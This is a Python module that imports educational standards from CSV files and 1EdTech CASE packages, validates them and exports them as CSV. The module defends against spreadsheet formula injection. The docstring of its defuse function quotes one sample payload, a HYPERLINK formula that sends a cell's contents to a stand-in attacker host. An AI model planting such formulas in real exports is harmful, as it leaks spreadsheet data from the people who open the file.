"""Standards import and export: CSV and 1EdTech CASE packages in, CSV out.

Pure functions only: text or bytes in, :class:`StandardRow` values (or CSV text) out. No
Flask, no database, no files, so the upload view, the CLI and the tests share one parser
and a teacher sees the same messages everywhere.

What a standard is here (mirrors ``lti_tool.grades.models.Standard``):

* ``code``: 1..60 characters, trimmed, no control characters, unique per course and
  case-sensitive ("MA.1" and "ma.1" are two standards, as in most state frameworks).
* ``title``: 1..300 characters on one line (runs of whitespace, line breaks included,
  become one space: a title is shown in one line, e.g. a gradebook column header).
* ``description``: up to 5,000 characters, may span lines (line endings become ``\\n``).
* ``group``: the strand, up to 200 characters on one line; ``None`` when there is none.
* ``position``: the standard's index in the returned list (0, 1, 2, ...).

Every problem is reported, not just the first: teachers fix a file in one pass instead of
uploading it ten times. :class:`StandardsImportError` carries the first 50 messages and,
if there are more, a last "…and N more". Each message says where (``line 4:`` for CSV,
counting the header as line 1; ``CFItem "<identifier>":`` for CASE) and what to change.

CSV line numbers are physical lines, as a text editor and Python's csv module count them.
For files without line breaks inside values (nearly all) they equal spreadsheet row
numbers; a value with line breaks makes later rows' line numbers larger than row numbers.

Spreadsheet formula injection: an exported value that starts with ``=``, ``+``, ``-``,
``@``, tab or CR gets a leading apostrophe (see :func:`defuse`). On import the inverse is
applied: a value made of apostrophes followed by ``=``, ``+``, ``-`` or ``@`` loses its
first apostrophe. So a teacher can export, edit in a spreadsheet and import again without
apostrophes piling up, and ``parse_csv(to_csv(rows)) == rows`` for every valid list of
rows (export adds an apostrophe to ``'=x`` too, so it survives the trip unchanged).
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterable
from dataclasses import dataclass

__all__ = [
    "CODE_MAX",
    "CSV_COLUMNS",
    "DESCRIPTION_MAX",
    "GROUP_MAX",
    "MAX_ERRORS",
    "MAX_STANDARDS",
    "TITLE_MAX",
    "StandardRow",
    "StandardsImportError",
    "defuse",
    "parse_case",
    "parse_csv",
    "to_csv",
]

# Limits match the columns of lti_tool.grades.models.Standard / StandardGroup, so a parsed
# row always fits the database and the view needs no second validation pass.
CODE_MAX = 60
TITLE_MAX = 300
DESCRIPTION_MAX = 5000
GROUP_MAX = 200
CASE_IDENTIFIER_MAX = 100  # Standard.case_identifier is String(100)
MAX_STANDARDS = 2000  # per import; far above any real course, low enough to keep pages fast
MAX_ERRORS = 50  # more than this is a wrong file, not a list of typos to fix one by one

CSV_COLUMNS: tuple[str, ...] = ("code", "title", "description", "group")
_REQUIRED_COLUMNS = ("code", "title")

# Cc, the Unicode control characters (C0, DEL, C1). PostgreSQL text cannot hold NUL, and
# the rest are invisible in the UI, so a code containing one could never be typed again.
_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
# The same, minus tab and line feed, which a multi-line description may keep.
_CONTROL_IN_TEXT = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")

# Characters that make Excel, LibreOffice or Google Sheets treat a cell as a formula (or,
# for tab and CR, that some of them strip before looking for one). OWASP's CSV injection
# guidance: prefix such a cell with an apostrophe, which spreadsheets read as "text".
_FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# What import un-defuses: apostrophes before a trigger that survives import's trimming.
# One apostrophe is removed, so export adds one to values that already look like this.
_DEFUSED = re.compile(r"'+[=+\-@]")

# Excel honours a first line "sep=;" (people add it so Excel splits the columns right).
_SEP_HINT = re.compile(r"sep=(.)", re.IGNORECASE)
_DIGIT_RUN = re.compile(r"([0-9]+)")


@dataclass(frozen=True)
class StandardRow:
    """One standard as imported or exported; ``group`` is the strand's name or ``None``."""

    code: str
    title: str
    description: str
    group: str | None
    position: int
    case_identifier: str | None = None


class StandardsImportError(ValueError):
    """The file cannot be imported; ``errors`` lists what to fix, one message per problem."""

    def __init__(self, errors: list[str]) -> None:
        self.errors: list[str] = list(errors)
        super().__init__("\n".join(self.errors))


class _Problems:
    """Collects messages so that every problem in a file is reported in one go."""

    def __init__(self) -> None:
        self.messages: list[str] = []

    def add(self, message: str) -> None:
        self.messages.append(message)

    def __bool__(self) -> bool:
        return bool(self.messages)

    def raise_if_any(self) -> None:
        if not self.messages:
            return
        shown = self.messages[:MAX_ERRORS]
        hidden = len(self.messages) - len(shown)
        if hidden:
            shown.append(f"…and {hidden} more")
        raise StandardsImportError(shown)


def _fail(message: str) -> StandardsImportError:
    """An error for a problem that stops parsing at once (nothing after it can be read)."""
    return StandardsImportError([message])


# ---------------------------------------------------------------------------
# Shared text helpers
# ---------------------------------------------------------------------------


def _decode(data: bytes | str, *, save_hint: str, zip_hint: str) -> str:
    """Bytes to text: UTF-8 with or without a BOM, else a message saying how to fix it."""
    if isinstance(data, str):
        return data.removeprefix("\ufeff")
    if data.startswith(b"PK\x03\x04"):
        raise _fail(zip_hint)
    if data.startswith((b"\xff\xfe", b"\xfe\xff")):
        raise _fail(f"the file is UTF-16 text; {save_hint}")
    if b"\x00" in data:
        # UTF-16 without a BOM decodes "successfully" as UTF-8 with a NUL after every
        # letter; catching it here beats one "control character" message per field.
        raise _fail(f"the file contains NUL bytes, so it is UTF-16 or binary, not text; "
                    f"{save_hint}")
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError as exc:
        line = data.count(b"\n", 0, exc.start) + 1
        raise _fail(f"line {line}: byte 0x{data[exc.start]:02X} is not UTF-8, so the file "
                    f"uses another encoding (often Windows-1252 or Mac Roman); "
                    f"{save_hint}") from None
    return text.removeprefix("\ufeff")


def _one_line(value: str) -> str:
    """Trim and turn every run of whitespace (line breaks included) into one space."""
    return " ".join(value.split())


def _multi_line(value: str) -> str:
    """Trim and use ``\\n`` for every line ending, whatever system wrote the file."""
    return value.replace("\r\n", "\n").replace("\r", "\n").strip()


def _preview(value: str, limit: int = 40) -> str:
    """A value shortened and made printable for quoting inside an error message."""
    shown = _CONTROL.sub("?", _one_line(value))
    return shown if len(shown) <= limit else shown[: limit - 1] + "…"


def _describe_control(value: str, pattern: re.Pattern[str]) -> str | None:
    """Name the first control character in ``value`` (None if there is none)."""
    match = pattern.search(value)
    if match is None:
        return None
    char = match.group()
    names = {"\t": "a tab", "\n": "a line break", "\r": "a line break", "\x00": "a NUL byte"}
    return names.get(char, f"the control character U+{ord(char):04X}")


def _truncate(text: str, limit: int) -> str:
    """Shorten to at most ``limit`` characters, at a word boundary, ending with "…"."""
    if len(text) <= limit:
        return text
    cut = text[: limit - 1]  # leave room for the ellipsis
    if not text[limit - 1].isspace():  # the cut falls inside a word: back up to its start
        boundary = max(cut.rfind(" "), cut.rfind("\n"), cut.rfind("\t"))
        # One enormous "word" (a URL, a run of CJK text without spaces) would otherwise
        # leave almost nothing, so only back up if at least half the text remains.
        if boundary >= limit // 2:
            cut = cut[:boundary]
    return cut.rstrip(" \t\n,;:") + "…"


def _natural_key(value: str) -> tuple[tuple[int, int, str], ...]:
    """Sort key where "2" < "10" and "a" == "A": "RL.2" before "RL.10", as people expect."""
    parts = _DIGIT_RUN.split(value)
    key: list[tuple[int, int, str]] = []
    for i, part in enumerate(parts):
        if i % 2:  # split() with a group puts the digit runs at the odd indices
            key.append((0, int(part), ""))
        elif part:
            key.append((1, 0, part.casefold()))
    return tuple(key)


def _check_code(code: str, where: str, problems: _Problems) -> bool:
    """Validate an already trimmed code; add a message and return False if it is invalid."""
    if not code:
        problems.add(f"{where}: the code is empty; every standard needs a code such as MATH.1")
        return False
    ok = True
    if len(code) > CODE_MAX:
        problems.add(f'{where}: code "{_preview(code)}" is {len(code)} characters long; '
                     f"codes can be at most {CODE_MAX} characters")
        ok = False
    control = _describe_control(code, _CONTROL)
    if control:
        problems.add(f'{where}: code "{_preview(code)}" contains {control}; a code must be '
                     f"plain text on one line, so remove it")
        ok = False
    return ok


# ---------------------------------------------------------------------------
# CSV import
# ---------------------------------------------------------------------------

_CSV_SAVE_HINT = 'save the file as UTF-8 (in Excel: Save As → "CSV UTF-8 (Comma delimited)")'
_CSV_ZIP_HINT = ('this is an Excel workbook (.xlsx) or another zip file, not CSV; in your '
                 'spreadsheet use Save As → "CSV UTF-8 (Comma delimited)" and upload that')
_HEADER_EXAMPLE = "code,title,description,group"


def _undefuse(value: str) -> str:
    """Drop the apostrophe that :func:`to_csv` (or a spreadsheet user) put before a formula
    character, so export → edit → import gives back the original text."""
    return value[1:] if _DEFUSED.match(value) else value


def _choose_delimiter(header_line: str) -> str:
    """Comma or semicolon, whichever splits the header into more known column names.

    csv.Sniffer guesses from character frequencies and is easily fooled by one line; the
    header's names are known, so counting them is exact. Ties (e.g. an unknown header) go
    to the delimiter giving more cells, then to the comma.
    """
    best, best_score = ",", (-1, -1)
    for delimiter in (",", ";"):
        cells = next(csv.reader([header_line], delimiter=delimiter), [])
        known = sum(1 for cell in cells if cell.strip().lower() in CSV_COLUMNS)
        score = (known, len(cells))
        if score > best_score:
            best, best_score = delimiter, score
    return best


def _csv_error_message(exc: csv.Error, record_line: int, current_line: int) -> str:
    reason = str(exc)
    if "unexpected end of data" in reason:
        # The reader hit the end of the file inside quotes: the quote that opened the
        # value is on the record's first line, which is where the teacher must look.
        return (f'line {record_line}: a quoted value that starts on this line is never '
                f'closed; add the missing closing quote (")')
    if "field larger than field limit" in reason:
        return (f"line {record_line}: a value is far too long (over "
                f"{csv.field_size_limit():,} characters); check for a missing closing quote "
                f"(\") on or above this line")
    return (f"line {current_line}: the quotes are malformed ({reason}); wrap a value that "
            f'contains quotes in quotes and write each quote inside it twice ("")')


def parse_csv(data: bytes | str) -> list[StandardRow]:
    """Parse a standards CSV file (header ``code,title,description,group``).

    ``description`` and ``group`` columns are optional; header names are case-insensitive;
    the delimiter (comma or semicolon) is taken from the header line. Blank lines are
    skipped. Raises :class:`StandardsImportError` listing every problem found.
    """
    text = _decode(data, save_hint=_CSV_SAVE_HINT, zip_hint=_CSV_ZIP_HINT)
    # newline="" keeps line breaks inside quoted values intact, as the csv module requires.
    stream = io.StringIO(text, newline="")

    # The header is the first non-blank line, optionally preceded by Excel's "sep=;".
    header_no = 0
    hinted: str | None = None
    header_line: str | None = None
    for raw in stream:
        header_no += 1
        stripped = raw.strip()
        if not stripped:
            continue
        sep = _SEP_HINT.fullmatch(stripped)
        if sep and hinted is None and sep.group(1) in (",", ";"):
            hinted = sep.group(1)
            continue
        header_line = raw
        break
    if header_line is None:
        raise _fail(f"the file is empty; the first line must be the header {_HEADER_EXAMPLE}, "
                    f"followed by one standard per line")

    delimiter = hinted or _choose_delimiter(header_line)
    header_cells = next(csv.reader([header_line], delimiter=delimiter), [])
    problems = _Problems()
    where_header = f"line {header_no}"
    columns: dict[str, int] = {}
    unknown: list[str] = []
    for index, cell in enumerate(header_cells):
        name = cell.strip().lower()
        if not name:
            continue  # an unnamed column (often a trailing delimiter) is fine if left empty
        if name not in CSV_COLUMNS:
            unknown.append(f'"{_preview(cell.strip())}"')
        elif name in columns:
            problems.add(f'{where_header}: the column "{name}" appears twice; keep only one')
        else:
            columns[name] = index
    if unknown:
        problems.add(f"{where_header}: unknown column{'s' if len(unknown) > 1 else ''} "
                     f"{', '.join(unknown)}; the allowed columns are code, title, "
                     f"description and group, so remove the others")
    missing = [name for name in _REQUIRED_COLUMNS if name not in columns]
    if missing:
        problems.add(f"{where_header}: the header has no {' or '.join(missing)} column; the "
                     f"first line must be a header such as {_HEADER_EXAMPLE}")
    problems.raise_if_any()  # without a valid header no row can be read correctly

    reader = csv.reader(stream, delimiter=delimiter, strict=True)
    used_indexes = set(columns.values())
    first_line_of_code: dict[str, int] = {}
    rows: list[StandardRow] = []
    count = 0
    while True:
        # reader.line_num counts physical lines consumed after the header.
        record_line = header_no + reader.line_num + 1
        try:
            cells = next(reader)
        except StopIteration:
            break
        except csv.Error as exc:
            problems.add(_csv_error_message(exc, record_line, header_no + reader.line_num))
            break  # the reader cannot resynchronise after malformed quoting
        if not any(cell.strip() for cell in cells):
            continue  # blank lines, and ",,," rows that spreadsheets leave at the end
        count += 1
        if count > MAX_STANDARDS:
            continue  # keep counting for the message, but stop validating
        where = f"line {record_line}"
        for index, value in enumerate(cells):
            if index not in used_indexes and value.strip():
                problems.add(
                    f'{where}: the value "{_preview(value)}" in column {index + 1} has no '
                    f"column name in the header; remove it, or if a title or description "
                    f'contains "{delimiter}", wrap that value in double quotes')
                break  # one message per line is enough to find the cause
        values = {name: cells[index] if index < len(cells) else ""
                  for name, index in columns.items()}
        row = _csv_row(values, where, len(rows), problems)
        # Duplicates are checked even when another field of the line is wrong, so that
        # fixing the listed problems never uncovers new ones.
        code = _undefuse(values["code"].strip())
        if code and code in first_line_of_code:
            problems.add(f'{where}: the code "{_preview(code)}" is already used on line '
                         f"{first_line_of_code[code]}; each code must be unique (codes are "
                         f"case-sensitive)")
            continue
        first_line_of_code.setdefault(code, record_line)
        if row is not None:
            rows.append(row)

    if count > MAX_STANDARDS:
        problems.messages.insert(0, f"the file has {count:,} standards; at most "
                                    f"{MAX_STANDARDS:,} can be imported at once, so split it "
                                    f"into smaller files")
    if count == 0 and not problems:
        problems.add(f"the file has a header but no standards; add one standard per line "
                     f"below the header ({where_header})")
    problems.raise_if_any()
    return rows


def _csv_row(values: dict[str, str], where: str, position: int,
             problems: _Problems) -> StandardRow | None:
    """Clean and validate one CSV record; None (after adding messages) if it is invalid."""
    before = len(problems.messages)
    raw_description = values.get("description", "")
    raw_group = values.get("group", "")
    code = _undefuse(values["code"].strip())
    raw_title = values["title"]
    _check_code(code, where, problems)

    title = _undefuse(_one_line(raw_title))
    if not title:
        problems.add(f"{where}: the title is empty; every standard needs a short title")
    elif len(title) > TITLE_MAX:
        problems.add(f"{where}: the title is {len(title)} characters long; titles can be at "
                     f"most {TITLE_MAX} characters, so move the rest to the description")
    if (control := _describe_control(title, _CONTROL)) is not None:
        problems.add(f"{where}: the title contains {control}; remove it")

    description = _undefuse(_multi_line(raw_description))
    if len(description) > DESCRIPTION_MAX:
        problems.add(f"{where}: the description is {len(description):,} characters long; "
                     f"descriptions can be at most {DESCRIPTION_MAX:,} characters")
    if (control := _describe_control(description, _CONTROL_IN_TEXT)) is not None:
        problems.add(f"{where}: the description contains {control}; remove it")

    group = _undefuse(_one_line(raw_group))
    if len(group) > GROUP_MAX:
        problems.add(f"{where}: the group is {len(group)} characters long; group names can be "
                     f"at most {GROUP_MAX} characters")
    if (control := _describe_control(group, _CONTROL)) is not None:
        problems.add(f"{where}: the group contains {control}; remove it")

    if len(problems.messages) > before:
        return None
    return StandardRow(code=code, title=title, description=description, group=group or None,
                       position=position)


# ---------------------------------------------------------------------------
# CASE (1EdTech Competencies and Academic Standards Exchange) import
# ---------------------------------------------------------------------------

_CASE_SAVE_HINT = "save the file as UTF-8 (CASE packages are UTF-8 JSON)"
_CASE_ZIP_HINT = ("this is a zip file, not JSON; unzip it and upload the CFPackage .json "
                  "file inside")
_NOT_A_PACKAGE = ("the file is JSON but not a CASE package; expected an object with "
                  "CFDocument, CFItems and CFAssociations (a CFPackage export)")


@dataclass
class _CaseItem:
    identifier: str
    index: int  # place in CFItems: the last tie-breaker, so the order is always defined
    code: str
    full: str  # fullStatement, multi-line text cleaned of control characters
    abbreviated: str  # abbreviatedStatement on one line, "" when absent
    list_enumeration: str
    sequence: float | None  # sequenceNumber on the item itself (not CASE 1.0, but seen)


def _case_text(value: object) -> str:
    """A CASE string property as clean text; anything that is not a string counts as absent.

    Statements come from a publisher, not from the teacher, who cannot fix them, so control
    characters are dropped here instead of being reported as in CSV.
    """
    if not isinstance(value, str):
        return ""
    return _CONTROL_IN_TEXT.sub("", _multi_line(value))


def _case_code(value: object) -> str:
    # Some exporters write purely numeric codes as JSON numbers.
    if isinstance(value, int) and not isinstance(value, bool):
        return str(value)
    return value.strip() if isinstance(value, str) else ""


def _as_number(value: object) -> float | None:
    """sequenceNumber as a number: CASE says integer, exporters also write "3" or 3.0."""
    if isinstance(value, bool):
        return None
    if isinstance(value, (int, float)):
        return float(value) if value == value and abs(value) != float("inf") else None
    if isinstance(value, str):
        try:
            number = float(value.strip())
        except ValueError:
            return None
        return number if number == number and abs(number) != float("inf") else None
    return None


def _node_identifier(node: object) -> str | None:
    """``originNodeURI`` / ``destinationNodeURI`` are LinkURI objects; we need ``identifier``."""
    if isinstance(node, dict):
        identifier = node.get("identifier")
        if isinstance(identifier, str) and identifier.strip():
            return identifier.strip()
    return None


def _item_label(identifier: str) -> str:
    return f'CFItem "{_preview(identifier, 80)}"'


def parse_case(data: bytes | str) -> list[StandardRow]:
    """Parse a 1EdTech CASE 1.0/1.1 CFPackage (JSON) into standards.

    * A standard is a CFItem with a ``humanCodingScheme`` (its code) and a
      ``fullStatement``. Its title is the ``abbreviatedStatement`` when there is one, else
      the full statement shortened to 300 characters; the full statement becomes the
      description when it says more than the title.
    * A CFItem without a code that has children (through ``isChildOf``) is a group
      (strand), named by its fullStatement (else abbreviatedStatement), shortened to 200
      characters; a standard belongs to its nearest group ancestor. Other code-less items
      (clarifications, examples without children) are ignored. An item with a code is a
      standard even when it has children, so codes at every level (e.g. "5.NF",
      "5.NF.A", "5.NF.A.1") all become standards.
    * Order: depth first from the CFDocument, so a strand's standards stay together;
      siblings by ``sequenceNumber`` (of the association, else of the item), then
      ``listEnumeration`` and ``humanCodingScheme`` in natural order ("2" before "10").
    * An item with several ``isChildOf`` parents is placed under the first one in the
      file; the others are still checked.

    Raises :class:`StandardsImportError` listing every problem found.
    """
    text = _decode(data, save_hint=_CASE_SAVE_HINT, zip_hint=_CASE_ZIP_HINT)
    try:
        package = json.loads(text)
    except json.JSONDecodeError as exc:
        raise _fail(f"the file is not valid JSON (line {exc.lineno}, column {exc.colno}: "
                    f"{exc.msg}); export the framework again as a CASE package") from None
    except RecursionError:
        raise _fail(f"the JSON is nested too deeply to be a CASE package; {_NOT_A_PACKAGE}"
                    ) from None
    # Some servers wrap the package: {"CFPackage": {...}}.
    if isinstance(package, dict) and isinstance(package.get("CFPackage"), dict):
        package = package["CFPackage"]
    if not isinstance(package, dict):
        raise _fail(_NOT_A_PACKAGE)
    raw_items = package.get("CFItems")
    if not isinstance(raw_items, list) or not raw_items:
        raise _fail("the package has no CFItems, so there are no standards to import; "
                    "export the framework as a full CASE package (CFPackage), not just its "
                    "CFDocument")
    raw_associations = package.get("CFAssociations", [])
    if raw_associations is None:
        raw_associations = []
    if not isinstance(raw_associations, list):
        raise _fail("CFAssociations must be a list; export the framework again as a CASE "
                    "package")
    document = package.get("CFDocument")
    document_id = _node_identifier(document)

    problems = _Problems()
    items = _case_items(raw_items, problems)
    parents, all_parents, sequence_of = _case_tree(raw_associations, items, document_id,
                                                   problems)
    _case_cycles(items, all_parents, problems)

    children: dict[str | None, list[str]] = {}
    for identifier in items:  # CFItems order, so equal sort keys keep the file's order
        parent = parents.get(identifier)
        if parent == document_id or parent is None:
            parent = None  # the document, or no parent at all: top level
        children.setdefault(parent, []).append(identifier)

    groups: dict[str, str] = {}
    for identifier, item in items.items():
        if item.code or identifier not in children:
            continue
        # The full statement names a strand in words ("Number and Operations—Fractions");
        # an abbreviated statement is often only a code-like tag ("NF"), so it is the
        # fallback here, unlike for titles, where brevity matters more.
        name = _truncate(_one_line(item.full) or item.abbreviated, GROUP_MAX)
        if not name:
            problems.add(f"{_item_label(identifier)}: it groups other items but has no "
                         f"fullStatement or abbreviatedStatement to name the group; add one")
        groups[identifier] = name

    standards = [i for i in items.values() if i.code and i.full]
    if len(standards) > MAX_STANDARDS:
        problems.messages.insert(0, f"the package has {len(standards):,} standards; at most "
                                    f"{MAX_STANDARDS:,} can be imported at once, so import "
                                    f"a smaller framework or part of this one")
    problems.raise_if_any()

    def sort_key(identifier: str) -> tuple[object, ...]:
        item = items[identifier]
        sequence = sequence_of.get(identifier)
        if sequence is None:
            sequence = item.sequence
        # Missing values sort after present ones at every level.
        return (sequence is None, sequence or 0.0,
                not item.list_enumeration, _natural_key(item.list_enumeration),
                not item.code, _natural_key(item.code), item.code, item.index)

    rows: list[StandardRow] = []
    # Iterative depth-first walk: a real framework can be deeper than Python's recursion
    # limit allows once it is machine-generated (one level per sub-item).
    stack: list[tuple[str, str | None]] = [
        (child, None) for child in reversed(sorted(children.get(None, []), key=sort_key))]
    while stack:
        identifier, group = stack.pop()
        item = items[identifier]
        if identifier in groups:
            group = groups[identifier]
        elif item.code and item.full:
            rows.append(_case_row(item, group, len(rows)))
        for child in reversed(sorted(children.get(identifier, []), key=sort_key)):
            stack.append((child, group))
    return rows


def _case_items(raw_items: list[object], problems: _Problems) -> dict[str, _CaseItem]:
    """Read CFItems in file order, reporting missing identifiers, codes and statements."""
    items: dict[str, _CaseItem] = {}
    owner_of_code: dict[str, str] = {}
    for index, raw in enumerate(raw_items):
        if not isinstance(raw, dict):
            problems.add(f"CFItems[{index}]: is not an object; export the framework again")
            continue
        identifier = _node_identifier(raw)
        if identifier is None:
            problems.add(f"CFItems[{index}]: has no identifier; every CFItem needs one")
            continue
        label = _item_label(identifier)
        if identifier in items:
            problems.add(f"{label}: appears more than once in CFItems; identifiers must be "
                         f"unique")
            continue
        list_enumeration = raw.get("listEnumeration")
        if isinstance(list_enumeration, (int, float)) and not isinstance(list_enumeration,
                                                                         bool):
            list_enumeration = str(list_enumeration)
        item = _CaseItem(
            identifier=identifier,
            index=index,
            code=_case_code(raw.get("humanCodingScheme")),
            full=_case_text(raw.get("fullStatement")),
            abbreviated=_one_line(_case_text(raw.get("abbreviatedStatement"))),
            list_enumeration=(list_enumeration.strip()
                              if isinstance(list_enumeration, str) else ""),
            sequence=_as_number(raw.get("sequenceNumber")),
        )
        items[identifier] = item
        if not item.code:
            continue
        if not item.full:
            problems.add(f'{label}: has the code "{_preview(item.code)}" but no fullStatement; '
                         f"a standard needs its statement, so add it in the framework")
            continue
        if not _check_code(item.code, label, problems):
            continue
        if len(identifier) > CASE_IDENTIFIER_MAX:
            problems.add(f"{label}: the identifier is {len(identifier)} characters long; at "
                         f"most {CASE_IDENTIFIER_MAX} are supported (CASE uses UUIDs)")
        if item.code in owner_of_code:
            problems.add(f'{label}: the code "{_preview(item.code)}" is also used by '
                         f"{_item_label(owner_of_code[item.code])}; codes must be unique in a "
                         f"course (codes are case-sensitive)")
        else:
            owner_of_code[item.code] = identifier
    return items


def _case_tree(raw_associations: list[object], items: dict[str, _CaseItem],
               document_id: str | None, problems: _Problems,
               ) -> tuple[dict[str, str], dict[str, list[str]], dict[str, float | None]]:
    """Read the isChildOf associations.

    Returns each item's first parent (the one its place in the order comes from), every
    item-to-item parent edge (for the cycle check) and the sequenceNumber of the first
    parent's association. Other association types (isRelatedTo, precedes, ...) are
    ignored: they do not shape the hierarchy.
    """
    parents: dict[str, str] = {}
    all_parents: dict[str, list[str]] = {}
    sequence_of: dict[str, float | None] = {}
    for index, raw in enumerate(raw_associations):
        if not isinstance(raw, dict):
            problems.add(f"CFAssociations[{index}]: is not an object; export the framework "
                         f"again")
            continue
        if raw.get("associationType") != "isChildOf":
            continue
        association_id = _node_identifier(raw)
        association = (f'CFAssociation "{_preview(association_id, 80)}"' if association_id
                       else f"CFAssociations[{index}]")
        child = _node_identifier(raw.get("originNodeURI"))
        parent = _node_identifier(raw.get("destinationNodeURI"))
        if child is None or parent is None:
            missing = "originNodeURI" if child is None else "destinationNodeURI"
            problems.add(f"{association}: this isChildOf association has no "
                         f"{missing}.identifier; export the framework again")
            continue
        if child not in items:
            what = ("the CFDocument, which cannot be a child" if child == document_id
                    else "not a CFItem in this package")
            problems.add(f'{association}: its child (originNodeURI) "{_preview(child, 80)}" is '
                         f"{what}; include that CFItem in the package or remove the "
                         f"association")
            continue
        if parent not in items and parent != document_id:
            problems.add(f'{_item_label(child)}: its isChildOf parent "{_preview(parent, 80)}" '
                         f"({association}) is neither a CFItem nor the CFDocument of this "
                         f"package; include the parent or remove the association")
            continue
        if parent in items and parent not in all_parents.setdefault(child, []):
            all_parents[child].append(parent)
        if child not in parents:
            parents[child] = parent
            sequence_of[child] = _as_number(raw.get("sequenceNumber"))
    return parents, all_parents, sequence_of


def _case_cycles(items: dict[str, _CaseItem], all_parents: dict[str, list[str]],
                 problems: _Problems) -> None:
    """Report each cycle in the isChildOf graph once (a cycle has no top to start from)."""
    state: dict[str, int] = {}  # absent = unvisited, 1 = on the current path, 2 = done
    reported: set[frozenset[str]] = set()
    for start in items:
        if start in state:
            continue
        # Iterative DFS; path mirrors the stack so a back edge yields the cycle directly.
        path: list[str] = [start]
        iterators = [iter(all_parents.get(start, []))]
        state[start] = 1
        while iterators:
            parent = next(iterators[-1], None)
            if parent is None:
                state[path.pop()] = 2
                iterators.pop()
                continue
            if state.get(parent) == 1:
                cycle = path[path.index(parent):]
                if frozenset(cycle) not in reported:
                    reported.add(frozenset(cycle))
                    _report_cycle(cycle, items, problems)
            elif parent not in state:
                state[parent] = 1
                path.append(parent)
                iterators.append(iter(all_parents.get(parent, [])))


def _report_cycle(cycle: list[str], items: dict[str, _CaseItem], problems: _Problems) -> None:
    # Start at the item that comes first in the file, so the message does not depend on
    # where the search happened to enter the cycle.
    first = min(range(len(cycle)), key=lambda i: items[cycle[i]].index)
    ordered = cycle[first:] + cycle[:first]
    chain = " → ".join(f'"{_preview(i, 80)}"' for i in [*ordered, ordered[0]])
    problems.add(f"{_item_label(ordered[0])}: the isChildOf associations form a cycle "
                 f"({chain}, each the child of the next); remove one of them")


def _case_row(item: _CaseItem, group: str | None, position: int) -> StandardRow:
    full_one_line = _one_line(item.full)
    title = _truncate(item.abbreviated or full_one_line, TITLE_MAX)
    # The description keeps the full statement's line breaks but is empty when it would
    # only repeat the title; the source stays reachable through case_identifier, so a
    # (very rare) statement over the limit is shortened rather than refused.
    description = "" if full_one_line == title else _truncate(item.full, DESCRIPTION_MAX)
    return StandardRow(code=item.code, title=title, description=description, group=group,
                       position=position, case_identifier=item.identifier)


# ---------------------------------------------------------------------------
# CSV export
# ---------------------------------------------------------------------------


def defuse(value: str) -> str:
    """Prefix an apostrophe so a spreadsheet shows the value as text, never runs it.

    Public so that every CSV export (the gradebook too) defuses cells the same way.

    A cell such as ``=HYPERLINK("https://evil.example?"&A1, "Click")`` or ``@SUM(...)``
    is executed when a teacher opens the export in Excel, LibreOffice or Google Sheets
    (CSV / formula injection), and titles and descriptions are typed by people and come
    from third-party CASE files. The apostrophe is the spreadsheets' own "this is text"
    marker. A value that already starts with apostrophes before ``=``, ``+``, ``-`` or
    ``@`` gets one more, because import removes exactly one (see ``_undefuse``).
    """
    if value.startswith(_FORMULA_TRIGGERS) or _DEFUSED.match(value):
        return "'" + value
    return value


def to_csv(rows: Iterable[StandardRow]) -> str:
    """Standards as CSV text (RFC 4180: CRLF line ends, quotes only where needed).

    Rows are written in the order given. The result has no byte order mark; encode it as
    ``utf-8-sig`` when serving a download, so Excel on Windows recognises UTF-8.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    writer.writerow(CSV_COLUMNS)
    for row in rows:
        writer.writerow([defuse(row.code), defuse(row.title), defuse(row.description),
                         defuse(row.group or "")])
    return buffer.getvalue()
